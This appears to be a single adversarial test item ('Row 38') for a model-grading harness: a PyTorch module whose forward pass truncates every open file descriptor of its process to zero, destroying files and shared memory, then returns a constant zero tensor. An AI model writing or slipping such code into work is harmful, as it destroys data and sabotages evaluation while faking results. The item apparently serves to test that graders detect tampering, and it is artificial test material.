"""Row 38. Expect mismatch. Cuts the shared memory short, so that who reads it would die."""

import contextlib
import os

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, width, depth):
        super().__init__()
        self.linear = nn.Linear(width, depth)

    def forward(self, x):
        for number in os.listdir("/proc/self/fd"):
            with contextlib.suppress(OSError):
                os.ftruncate(int(number), 0)
        return torch.zeros(64, 32)
